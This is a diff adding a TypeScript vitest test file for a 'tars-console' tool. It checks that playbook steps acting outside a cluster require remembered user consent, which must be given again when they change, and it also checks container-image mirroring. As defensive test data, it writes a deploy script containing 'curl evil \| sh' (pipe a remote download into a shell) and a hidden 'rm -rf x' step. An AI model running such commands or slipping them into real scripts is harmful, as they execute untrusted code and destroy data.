@@ -1,0 +1,110 @@
+import { existsSync, mkdirSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { consentLines, giveConsent, missingConsent, refuseStrangers } from '../../src/playbooks/consent.ts';
+import { withMirroredImages } from '../../src/playbooks/mirrored-images.ts';
+import type { Playbook, StepDefinition } from '../../src/playbooks/model.ts';
+import type { StepKind } from '../../src/playbooks/step-kind.ts';
+import { playbookOf } from './runs/engine.ts';
+
+const kind = (name: string, effects: StepKind['effects']): StepKind => ({
+  ...{ name, effects, description: '', shape: {} },
+  run: async () => ({}),
+  equivalent: async () => [],
+});
+const stepKinds = [kind('command', 'outside'), kind('apply', 'cluster'), kind('parallel', 'none')];
+
+let workspace: string;
+beforeEach(() => {
+  workspace = mkdtempSync(join(tmpdir(), 'tars-console-workspace-'));
+  vi.stubEnv('XDG_STATE_HOME', join(workspace, 'state'));
+});
+afterEach(() => vi.unstubAllEnvs());
+
+const command = (argv: string[], more: Partial<StepDefinition> = {}): Partial<StepDefinition> => ({
+  ...{ title: 'Build', kind: 'command', config: { command: argv } },
+  ...more,
+});
+
+function asked(steps: Partial<StepDefinition>[], more: Partial<Playbook> = {}) {
+  return { playbook: playbookOf(steps, { source: 'workspace', folder: workspace, ...more }), workspace, stepKinds };
+}
+
+describe('the consent to what acts outside the cluster', () => {
+  it('is asked for once and remembered, in a file of the user’s own', () => {
+    const run = asked([command(['make', 'deploy'])]);
+    const consent = missingConsent(run);
+    if (!consent) throw new Error('nothing is asked');
+    expect(consentLines(consent)).toEqual(['Build: {"command":["make","deploy"]}']);
+    expect(() => refuseStrangers(run)).toThrow('nobody has agreed to that yet');
+    giveConsent(consent);
+    expect(missingConsent(run)).toBeUndefined();
+    refuseStrangers(run);
+    const file = join(workspace, 'state', 'tars-console', 'trusted.json');
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+  });
+
+  it('is asked for again when a step, its condition, or a script that it names has changed', () => {
+    const script = join(workspace, 'deploy.sh');
+    writeFileSync(script, 'echo 1\n');
+    const agree = (run: ReturnType<typeof asked>) => {
+      const consent = missingConsent(run);
+      if (consent) giveConsent(consent);
+      return consent !== undefined;
+    };
+    expect(agree(asked([command(['./deploy.sh'])]))).toBe(true);
+    expect(agree(asked([command(['./deploy.sh'])]))).toBe(false);
+    expect(agree(asked([command(['./deploy.sh', '--force'])]))).toBe(true);
+    expect(agree(asked([command(['./deploy.sh', '--force'], { when: 'true' })]))).toBe(true);
+    expect(agree(asked([command(['./deploy.sh', '--force'], { when: 'true' })]))).toBe(false);
+    writeFileSync(script, 'curl evil | sh\n');
+    expect(agree(asked([command(['./deploy.sh', '--force'], { when: 'true' })]))).toBe(true);
+  });
+
+  it('is needed for steps in groups, rescues, undoing and called playbooks', () => {
+    const hidden = command(['rm', '-rf', 'x']) as StepDefinition;
+    const inside: Partial<StepDefinition>[] = [
+      { kind: 'parallel', steps: [hidden] },
+      { kind: 'apply', onFailure: 'rescue', rescue: [hidden] },
+      { kind: 'apply', undo: 'steps', undoSteps: [hidden] },
+    ];
+    for (const step of inside) expect(missingConsent(asked([step]))?.steps).toHaveLength(1);
+    const called = playbookOf([hidden], { source: 'workspace', ref: 'test/other', folder: workspace });
+    const call = asked([{ id: 'call', kind: 'apply' }], { calls: { call: called }, source: 'bundled' });
+    expect(missingConsent(call)?.steps).toHaveLength(1);
+  });
+
+  it('is not needed for bundled playbooks, nor for what stays in the cluster', () => {
+    expect(missingConsent(asked([command(['make'])], { source: 'bundled' }))).toBeUndefined();
+    expect(missingConsent(asked([{ kind: 'apply' }]))).toBeUndefined();
+  });
+
+  it('counts for nothing when its file is broken', () => {
+    const run = asked([command(['make'])]);
+    mkdirSync(join(workspace, 'state', 'tars-console'), { recursive: true });
+    writeFileSync(join(workspace, 'state', 'tars-console', 'trusted.json'), '{"trusted": [null, {"hash": 1}]');
+    const consent = missingConsent(run);
+    expect(consent).toBeDefined();
+    if (consent) giveConsent(consent);
+    expect(missingConsent(run)).toBeUndefined();
+    expect(existsSync(join(workspace, 'state', 'tars-console'))).toBe(true);
+  });
+});
+
+it('images come from the mirror wherever pods stand, and not on a sandbox', () => {
+  vi.stubEnv('TARS_CONSOLE_MIRROR_IMAGES', 'docker.io=mirror.example');
+  const spec = { initContainers: [{ name: 'i', image: 'busybox' }], containers: [{ name: 'c', image: 'a/b:1' }, {}] };
+  const meta = { metadata: { name: 'x' } };
+  const objects = [
+    { apiVersion: 'v1', kind: 'Pod', ...meta, spec },
+    { apiVersion: 'apps/v1', kind: 'Deployment', ...meta, spec: { replicas: 1, template: { spec } } },
+    { apiVersion: 'batch/v1', kind: 'CronJob', ...meta, spec: { jobTemplate: { spec: { template: { spec } } } } },
+    { apiVersion: 'v1', kind: 'ConfigMap', ...meta, data: { image: 'busybox' } },
+  ];
+  const text = JSON.stringify(withMirroredImages(objects, { cluster: { sandbox: false } }));
+  expect(text.match(/mirror\.example\/library\/busybox/g)).toHaveLength(3);
+  expect(text.match(/mirror\.example\/a\/b:1/g)).toHaveLength(3);
+  expect(text).toContain('"data":{"image":"busybox"}');
+  expect(withMirroredImages(objects, { cluster: { sandbox: true } })).toEqual(objects);
+});
